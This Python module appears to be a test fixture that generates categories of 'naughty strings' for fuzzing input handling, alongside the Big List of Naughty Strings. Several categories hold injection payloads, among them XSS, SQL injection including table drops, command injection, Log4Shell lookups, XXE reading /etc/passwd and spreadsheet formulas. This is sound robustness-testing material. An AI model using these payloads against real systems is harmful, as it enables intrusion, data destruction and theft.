"""Strings that have broken something somewhere, made by rule, category by category.

Each category says what it is after. Most strings are made by combining a few ways to attack with
a few places where they may land. Beside them stands a list that others have collected.
"""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Iterator, Mapping
from functools import lru_cache
from itertools import product
from pathlib import Path

WORD = "bicycle"
BIG_LIST = Path(__file__).parents[1] / "fixtures" / "naughty" / "blns.json"


def nothing() -> Iterator[str]:
    """Nothing that one can read, in all the ways to write it."""
    yield ""
    spaces = [chr(code) for code in range(0x3001) if unicodedata.category(chr(code)) == "Zs"]
    yield from spaces
    yield from (
        "\t",
        "\n",
        "\r",
        "\r\n",
        "\v",
        "\f",
        "\x85",
        "\u2028",
        "\u2029",
        " \t\n ",
        " " * 5000,
    )
    unseen = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u061c\u200e\u200f"
    yield from unseen
    yield unseen * 20
    yield from ("\u3164", "\u2800", "\u115f", "\u1160", "\uffa0", "\u034f")


def control() -> Iterator[str]:
    """Control characters inside a word."""
    codes = [*range(0x20), *range(0x7F, 0xA0)]
    yield from (f"bi{chr(code)}cycle" for code in codes)
    yield from (
        "\0",
        "\0" * 100,
        "bike\0.exe",
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x08" * 9 + "gone",
    )


def direction() -> Iterator[str]:
    """Overrides and isolates that make a text read as another one."""
    for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A)):
        yield f"safe {chr(code)}gpj.exe"
        yield f"{chr(code)}"
    yield "\u202e" * 500 + WORD
    yield "שלום (bicycle) עולם"
    yield "مرحبا \u200fbicycle\u200f بالعالم 123"
    yield "\u2067א\u2066a\u2069ב\u2069"


def broken() -> Iterator[str]:
    """What is no text at all: half characters, and those that stand for none."""
    for code in (0xD800, 0xDBFF, 0xDC00, 0xDFFF):
        yield chr(code)
        yield f"bi{chr(code)}cycle"
    yield "\ude00\ud83d"
    yield from (
        "\ufffe",
        "\uffff",
        "\ufdd0",
        "\U0001fffe",
        "\U0010ffff",
        "\ufffd" * 40,
        "\ue000\uf8ff",
    )


def emoji() -> Iterator[str]:
    """Pictures: one, with a colour of skin, joined, as flags, as keys, and many."""
    yield from (
        "🚲",
        "🚲" * 3000,
        "❤️",
        "☎︎",
        "1️⃣",
        "#️⃣",
        "🏳️\u200d🌈",
        "👩\u200d🔧",
        "🏴\U000e0067\U000e0062\U000e007f",
    )
    for skin in range(0x1F3FB, 0x1F400):
        yield f"👍{chr(skin)}"
    for first, second in product("ESN", "ES"):
        yield chr(0x1F1A5 + ord(first)) + chr(0x1F1A5 + ord(second))
    yield "\u200d".join("👨👩👧👦")
    yield "\ufe0f" * 30


def marks() -> Iterator[str]:
    """Letters under piles of marks, which also make sorting them slow."""
    above = "".join(chr(code) for code in range(0x0300, 0x0315))
    below = "".join(chr(code) for code in range(0x0316, 0x0334))
    for pile in (3, 29, 30, 31, 300):
        yield "".join(letter + (above + below)[:pile] * (pile // 50 + 1) for letter in WORD)
    yield "a" + (above[1] + below[0]) * 4000
    yield "\u0301" + WORD
    yield "".join(chr(code) for code in range(0x0483, 0x048A)) * 50
    yield "\u1ab0\u20d0\ufe20" * 200


def scripts() -> Iterator[str]:
    """A few letters of each of many scripts, also of those written from right to left."""
    for start in (
        *(0x0100, 0x0180, 0x0250, 0x0370, 0x0400, 0x0531, 0x05D0, 0x0621, 0x0710, 0x0780, 0x07CA),
        *(0x0905, 0x0985, 0x0A05, 0x0A85, 0x0B05, 0x0B85, 0x0C05, 0x0C85, 0x0D05, 0x0D85, 0x0E01),
        *(0x0E81, 0x0F40, 0x1000, 0x10D0, 0x1100, 0x1200, 0x13A0, 0x1401, 0x1680, 0x16A0, 0x1780),
        *(0x1820, 0x1E00, 0x1F00, 0x2C00, 0x2D30, 0x3041, 0x30A1, 0x3105, 0x3131, 0x3400, 0x4E00),
        *(0xA000, 0xA840, 0xA980, 0xAC00, 0xFB50, 0xFE70, 0xFF21, 0x10000, 0x10330, 0x12000),
        *(0x13000, 0x1D400, 0x1D7CE, 0x1F130, 0x20000, 0x2F800, 0x30000),
    ):
        yield " ".join("".join(chr(start + n + k) for k in range(5)) for n in (0, 5, 10))


def folding() -> Iterator[str]:
    """Letters that change their length, or their neighbours, when case or form is changed."""
    yield from "ßẞİıŉǰΐﬁﬃﬓÅﷺﷻĲǅ㎏㏂Ⅷ①🅰"
    yield from (
        "e\u0301",
        "A\u030a",
        "\u1100\u1161\u11a8",
        "\u0915\u093c",
        "\u2adc",
        "\U0001d15e",
        "\u0344",
    )
    yield from ("STRASSE", "straße", "ǆ" * 100, "ﷺ" * 500, "i̇stanbul", "\u212aelvin", "ſs")
    yield from ("paypaI", "раураl", "𝒷𝒾𝒸𝓎𝒸𝓁𝑒", "ｂｉｃｙｃｌｅ", "b\u0456cycle")


def numbers() -> Iterator[str]:
    """What is read as a number, or nearly."""
    yield from (
        "0",
        "-0",
        "00",
        "1.0",
        "1e309",
        "-1e309",
        "1e-400",
        "NaN",
        "nan",
        "inf",
        "-Infinity",
    )
    yield from (
        "0x7fffffff",
        "0b11",
        "0o17",
        "1_000",
        "1,000.00",
        "1.000,00",
        "1/0",
        "0/0",
        "٠١٢",
        "一二三",
    )
    yield from (
        str(base**power + more)
        for base, power in ((2, 31), (2, 53), (2, 63), (2, 64), (10, 100))
        for more in (-1, 0, 1)
    )
    yield from (
        "9" * 5000,
        "1" + "0" * 400,
        "½",
        "²",
        "Ⅻ",
        "１２",
        "1\u00a0000",
        "+1 234",
        "12:60",
        "31.02.2026",
    )


def formulas() -> Iterator[str]:
    """Cells that a spreadsheet would run."""
    starts = ("=", "+", "-", "@", "\t=", "\r=", "\n@", "＝", " =", '"=', "';=", "x,=")
    calls = ("1+1", "SUM(A1:A9)", 'HYPERLINK("http://e.example/"&A1,"x")', "cmd|' /C calc'!A0")
    yield from (f"{start}{call}" for start, call in product(starts, calls))


def pages() -> Iterator[str]:
    """HTML and scripts, in places of a page where they might run."""
    breaks = ("", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "<![CDATA[")
    acts = ("alert(4711)", "fetch('//e.example')")
    for before, act in product(breaks, acts):
        yield f"{before}<script>{act}</script>"
        yield f"{before}<img src=x onerror={act}>"
        yield f"{before}<svg/onload={act}>"
    for name in ("onclick", "onfocus", "onmouseover", "ontoggle", "onanimationend"):
        yield f'" {name}="alert(4711)" autofocus x="'
        yield f"<details open {name}=alert(4711)>"
    tags = (
        "iframe srcdoc",
        "object data",
        "embed src",
        "link rel=stylesheet href",
        "base href",
        "form action",
        "math href",
    )
    yield from (f'<{tag}="javascript:alert(4711)">x' for tag in tags)
    yield from (
        "<b>bold</b>",
        "<>",
        "&lt;b&gt;",
        "&#60;script&#62;",
        "&amp;amp;",
        "<!--",
        "<!DOCTYPE x>",
        "<?xml?>",
        "＜script＞",
        "<scr\0ipt>",
        "<SCRIPT SRC=//e.example>",
        "<style>*{display:none}</style>",
        "<plaintext>",
        "&nbsp;",
    )


def templates() -> Iterator[str]:
    """Expressions of template languages, and placeholders of ours."""
    inside = ("7*7", "config", "''.__class__.__mro__", "self.__init__.__globals__")
    around = ("{{%s}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%% print(%s) %%}", "[[%s]]", "@(%s)")
    yield from (place % one for place, one in product(around, inside))
    yield from (
        "%s",
        "%d%n",
        "%(community)s",
        "%(seconds)s",
        "%(x",
        "%",
        "%%",
        "100 %",
        "{0}",
        "{name}",
        "{",
        "}",
        "{0.__class__}",
        "$NAME",
        "__proto__",
        "constructor",
    )


def databases() -> Iterator[str]:
    """SQL, as if it were glued together somewhere."""
    ends = ("'", '"', "')", "';", "' --", "` #", "\\'")
    acts = (
        "or 1=1",
        "union select name from people",
        "drop table people",
        "; vacuum into '/tmp/x'",
    )
    yield from (f"{WORD}{end} {act} --" for end, act in product(ends, acts))
    yield from (
        "%",
        "_",
        "%%%",
        "[a-z]",
        "Robert'); select 1;--",
        "\\",
        "\\\\",
        "'",
        "''",
        "$$",
        "?",
        ":name",
        "E'\\x00'",
        "U&'\\0000'",
    )


def paths() -> Iterator[str]:
    """Names that lead somewhere else, and commands."""
    ups = ("../", "..\\", "%2e%2e/", "....//", "/")
    yield from (f"{up * 6}{name}" for up, name in product(ups, ("etc/passwd", "earned.db")))
    yield from (
        "CON",
        "NUL",
        "aux.txt",
        "C:\\x",
        "\\\\e.example\\x",
        "file:///etc/passwd",
        "~",
        ".",
        "..",
        ".htaccess",
        "a" * 300 + ".png",
        "x.png\0.html",
        'a/b\\c:d*e?f"g<h>i|j',
    )
    yield from (
        f"{start}id{end}"
        for start, end in (
            ("$(", ")"),
            ("`", "`"),
            ("; ", ""),
            ("| ", ""),
            ("&& ", ""),
            ("\n", "\n"),
        )
    )
    yield from (
        "--help",
        "-rf",
        "() { :;}; echo x",
        "${IFS}id",
        "%COMSPEC%",
        "${jndi:ldap://e.example/x}",
    )


def documents() -> Iterator[str]:
    """What might end a string in JSON, XML, YAML or a header, and begin something else."""
    yield from (
        '"',
        '\\"',
        '"}',
        '{"a": 1}',
        '{"__proto__": {"x": 1}}',
        "[]",
        "[" * 500,
        '"\\ud800"',
        "\\u0000",
        "\\x3cscript\\x3e",
    )
    yield from (
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "]]>",
        "<a xmlns='x:y'/>",
    )
    yield from (
        "!!python/object/apply:os.system [id]",
        "a: &a [*a]",
        "- - -",
        "#",
        "key: value",
        "yes",
        "~",
        "| x",
        "@type",
        "@context",
        "_:b0",
        "urn:uuid:x",
    )
    yield from (
        f"Ana{line}Bcc: eve@e.example{line}{line}x"
        for line in ("\r\n", "\n", "%0d%0a", "\u560d\u560a", "\r")
    )
    yield from ("event: x\ndata: y\n\n", "Content-Type: text/html", "HTTP/1.1 200 OK", ".\r\nQUIT")


def reserved() -> Iterator[str]:
    """Words that mean something to some machine, ours included."""
    yield from (
        "null",
        "undefined",
        "None",
        "nil",
        "true",
        "False",
        "void 0",
        "[object Object]",
        "this",
        "NULL",
        "\\N",
        "EOF",
        "exit",
        "self",
        "default",
        "class",
        "id",
        "length",
        "toString",
        "hasOwnProperty",
        "admin",
        "root",
        "system",
    )
    yield from (
        "withdraw",
        "submit",
        "back",
        "skip",
        "unknown",
        "save",
        "agree",
        "decline",
        "keep",
        "go_on",
        "edit:review",
        "edit:story",
        "language:xx",
        "open:x",
        "begin",
        "e1.x.1.submit",
        "criterion/",
        "probe/x/y",
        "welcome",
        "end",
        "note",
        "told-story",
    )


def markup() -> Iterator[str]:
    """Markdown and chat markup."""
    for target in ("javascript:alert(4711)", "data:text/html,x", "//e.example", "http://[::1]/"):
        yield f"[x]({target})"
        yield f"![x]({target})"
        yield f"<{target}>"
    yield from (
        "# x",
        "**x**",
        "_x_",
        "~~x~~",
        "`x`",
        "```\nx\n```",
        "> x",
        "- x\n- y",
        "1. x",
        "|a|b|\n|-|-|",
        "---",
        "@everyone",
        "<@1234>",
        "<!channel>",
        ":bike:",
        "/kick",
        "||x||",
        "\\*x\\*",
        "[^1]: x",
    )


def addresses() -> Iterator[str]:
    """Links, e-mail addresses, and what looks like one of them."""
    yield from (
        f"{scheme}:{rest}"
        for scheme, rest in product(
            ("javascript", "JaVaScRiPt", "data", "vbscript", "file", "ftp", "mailto"),
            ("alert(4711)", "//e.example/x"),
        )
    )
    yield from (
        "http://",
        "http://a",
        "https://user:word@e.example/",
        "http://e.example:99999/",
        "http://[::1",
        "http://1.1.1.1 &@2.2.2.2#@3.3.3.3/",
        "http://xn--bcher-kva.example",
        "http://bücher.example",
        "http://e.example/\u202egpj",
        "https://e.example/" + "a" * 3000,
        "//e.example",
        "http:\\\\e.example",
        "http://e.example\\@f.example",
        "http://0x7f.1/",
        "https://e.example/<b>",
        "HTTPS://E.EXAMPLE",
        "see http://a.example, http://b.example.",
    )
    yield from (
        "a@b",
        "a@b.c",
        "@",
        "a@@b.example",
        "a b@c.example",
        '"a b"@c.example',
        "a@[127.0.0.1]",
        "a@b.example\nBcc: c@d.example",
        "é@é.example",
        "a" * 65 + "@b.example",
        "a@" + "b" * 260 + ".example",
        "<a@b.example>",
        "a@b.example,c@d.example",
        "a..b@c.example",
    )


def long() -> Iterator[str]:
    """At a limit, over it, and far over it."""
    for most in (80, 100, 200, 254, 300, 2000, 4000, 10_000):
        yield "x" * most
        yield "ü" * (most + 1)
    yield ("word " * 30_000).strip()
    yield "\n".join("line" for _ in range(9000))
    yield "x" * 200_000


CATEGORIES = (
    *(nothing, control, direction, broken, emoji, marks, scripts, folding, numbers, formulas),
    *(pages, templates, databases, paths, documents, reserved, markup, addresses, long),
)


@lru_cache(maxsize=1)
def by_category() -> Mapping[str, tuple[str, ...]]:
    """Every string once, under the category that has it first."""
    seen: set[str] = set()
    found: dict[str, tuple[str, ...]] = {}
    for category in CATEGORIES:
        fresh = [one for one in dict.fromkeys(category()) if one not in seen]
        seen.update(fresh)
        found[category.__name__] = tuple(fresh)
    return found


def naughty() -> tuple[str, ...]:
    """All of our own."""
    return tuple(one for some in by_category().values() for one in some)


@lru_cache(maxsize=1)
def big_list() -> tuple[str, ...]:
    """The Big List of Naughty Strings."""
    return tuple(json.loads(BIG_LIST.read_text(encoding="utf-8")))


def hostile() -> tuple[str, ...]:
    """Our own and the big list's, each once."""
    return tuple(dict.fromkeys((*naughty(), *big_list())))
